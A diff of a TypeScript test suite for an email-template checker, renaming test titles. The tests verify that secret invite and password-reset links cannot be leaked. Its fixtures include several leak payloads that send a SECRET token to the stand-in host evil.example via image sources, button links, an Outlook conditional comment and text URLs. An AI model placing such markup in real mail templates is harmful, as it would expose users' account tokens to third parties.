@@ -21,10 +21,10 @@ async function faultsOf(id: string, sources: Partial<MailSources>): Promise<stri
   return check.ok ? [] : check.errors.map(({ part, line, message }) => `${part} ${line}: ${message}`)
 }
 
-describe('what is shipped', () => {
+describe('a shipped template', () => {
   for (const { id } of MAILS) it(`${id} passes, with its links in place`, async () => assert.deepEqual(await faultsOf(id, {}), []))
 
-  it('and its links are in their places', async () => {
+  it('has its links in the right places', async () => {
     const check = await checkTemplate(named('invite'), named('invite'), rendering)
     assert.ok(check.ok)
     const link = 'https://weather.example/base/invite/c2FtcGxlLXRva2VuLXRoYXQtb3BlbnMtbm90aGluZy0'
@@ -36,7 +36,7 @@ describe('what is shipped', () => {
   })
 })
 
-/** Each would send a link that opens something to a stranger. */
+/** Each would leak a secret link to a third party. */
 const LEAKS: Readonly<Record<string, string>> = {
   'an image': '<mj-image src="https://evil.example/p.png?u=SECRET" />',
   'a link': '<mj-button href="https://evil.example/?u=SECRET">x</mj-button>',
@@ -79,14 +79,14 @@ for (const [id, name] of [
       })
     }
 
-    it('is refused in the subject, and in the text within another address', async () => {
+    it('is refused in the subject, and inside another address in the text', async () => {
       assert.match((await faultsOf(id, { subject: fill('x SECRET') })).join(), /^subject 1: A secret link is not allowed in the subject/)
       for (const text of ['https://evil.example/?u=SECRET', 'SECRET.evil.example', 'evil.example/SECRET']) {
         assert.match((await faultsOf(id, { text: fill(text) })).join(), /text 1: A secret link must be separated/)
       }
     })
 
-    it('tells nothing of itself to Liquid', async () => {
+    it('hides its value from Liquid', async () => {
       const check = await checkTemplate(
         named(id),
         { ...named(id), text: fill("[{{ NAME | split: '' | join: '-' }}] {{ NAME | slice: -9, 9 }}") },
@@ -96,7 +96,7 @@ for (const [id, name] of [
       assert.match(check.preview.text, /^\[h-t-t-p-s-:-\/-\/-s-e-c-r-e-t-[^\]]*\]\s+xxxxxxxxx\n/)
     })
 
-    it('may be a button, a link and a line', async () => {
+    it('is allowed as a button, a link and a line of its own', async () => {
       const mjml = section(fill('<mj-button href="SECRET">x</mj-button><mj-text><a class="y" href="SECRET">x</a></mj-text>'))
       assert.deepEqual(await faultsOf(id, { mjml, text: fill('Here:\nSECRET') }), [])
     })
@@ -121,12 +121,12 @@ describe('a mail about an account', () => {
     'a comment': '<mj-raw><!--[if mso]><img src="https://evil.example/"><![endif]--></mj-raw>',
   }
   for (const [what, mjml] of Object.entries(addresses)) {
-    it(`holds no address of others: ${what}`, async () => {
+    it(`must not hold a foreign address: ${what}`, async () => {
       assert.notDeepEqual(await faultsOf('reset-password', { mjml: mjml.startsWith('<mj-section') ? mjml : section(mjml) }), [])
     })
   }
 
-  it('nor in its text and subject, and says where', async () => {
+  it('must not hold one in its text or subject either; the error says where', async () => {
     assert.match(
       (await faultsOf('invite', { text: 'Go to https://evil.example/' })).join(),
       /^text 1: “https:\/\/evil\.example\/” is not an address of this site/,
@@ -144,7 +144,7 @@ describe('a mail about an account', () => {
   })
 })
 
-it('other mails may load an image and link anywhere, as long as these are the same for everybody', async () => {
+it('other mails may load an image and link anywhere, if these are the same for every reader', async () => {
   const mjml = section(
     '<mj-image src="https://cdn.example/logo.png" href="https://shop.example/" /><mj-text>https://shop.example</mj-text>',
   )
